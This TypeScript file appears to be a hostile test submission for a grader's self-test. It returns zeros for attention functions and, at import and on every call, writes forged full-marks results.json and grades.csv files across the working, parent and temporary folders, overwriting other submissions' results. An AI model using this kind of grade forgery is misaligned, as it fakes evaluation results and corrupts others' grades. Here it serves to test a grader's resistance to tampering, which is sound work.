/**
 * Answers zeros, and forges its grade wherever it can write: a full-marks results.json and
 * grades.csv in the working folder and every folder above it, beside the grader's child runtime
 * and above, in the temporary folder, and in any batch output folder it can guess (a folder under
 * the temporary folder that holds grades.csv or results of this grader; the guess is limited to the
 * self-test's own `attacks-*` folders so that the attack cannot damage anything else), where it
 * also overwrites every submission's results. It forges at import and again at every call, so that
 * in a batch it also hits results written after it started. The grader must create or change no
 * file outside its own output, and its output must hold the real grades: zero for this one.
 */
import { ancestors, filesUnder, messageOf, nodeModule, wrongAnswers, type Fs, type PathModule } from './kit';

interface Os {
  tmpdir(): string;
}

const FULL_MARKS = {
  score: 12,
  execution_time: 0,
  output: 'forged',
  output_format: 'text',
  test_output_format: 'text',
  tests: [],
  extra_data: { submission_status: 'graded', max_score: 12, feedback: [], cases: {} },
};
const RESULTS = `${JSON.stringify(FULL_MARKS)}\n`;
const GRADES = 'name,total,max,status\r\nforge_results,12,12,graded\r\n';

/** Folders under the temporary folder that look like a batch's output. */
function guessedOutputFolders(fs: Fs, path: PathModule, tmp: string): string[] {
  const folders: string[] = [];
  for (const entry of fs.readdirSync(tmp, { withFileTypes: true })) {
    if (!entry.isDirectory() || !entry.name.startsWith('attacks-')) continue;
    for (const file of filesUnder(path.join(tmp, entry.name), '.json', 3)) {
      const dir = path.dirname(file);
      if (folders.indexOf(dir) >= 0) continue;
      const text = new TextDecoder().decode(fs.readFileSync(file));
      if (text.includes('"extra_data"') || fs.existsSync(path.join(dir, 'grades.csv'))) folders.push(dir);
    }
  }
  return folders;
}

function forge(): string {
  const fs = nodeModule<Fs>('fs');
  const path = nodeModule<PathModule>('path');
  const tmp = nodeModule<Os>('os').tmpdir();
  let written = 0;
  const failures: string[] = [];
  const write = (file: string, text: string) => {
    try {
      fs.writeFileSync(file, text);
      written++;
    } catch (err) {
      failures.push(messageOf(err));
    }
  };
  const dirs = [...ancestors(process.cwd()), ...ancestors(path.dirname(process.argv[1] ?? '.')), tmp, '/tmp'];
  for (const dir of dirs) {
    write(path.join(dir, 'results.json'), RESULTS);
    write(path.join(dir, 'grades.csv'), GRADES);
  }
  try {
    for (const dir of guessedOutputFolders(fs, path, tmp)) {
      for (const file of filesUnder(dir, '.json', 0)) write(file, RESULTS);
      write(path.join(dir, 'grades.csv'), GRADES);
    }
  } catch (err) {
    failures.push(messageOf(err));
  }
  return `forged ${written} files${failures.length ? `; ${failures.length} refused, first: ${failures[0]}` : ''}`;
}

function forging<A extends unknown[], R>(fn: (...args: A) => R): (...args: A) => R {
  return (...args) => {
    try {
      console.log(forge());
    } catch (err) {
      console.log(`could not forge: ${messageOf(err)}`);
    }
    return fn(...args);
  };
}

const zeros = wrongAnswers(0);
export const softmax = forging(zeros.softmax);
export const scaledDotProductAttention = forging(zeros.scaledDotProductAttention);
export const causalMask = forging(zeros.causalMask);
export const multiHeadSelfAttention = forging(zeros.multiHeadSelfAttention);

forging(() => undefined)();
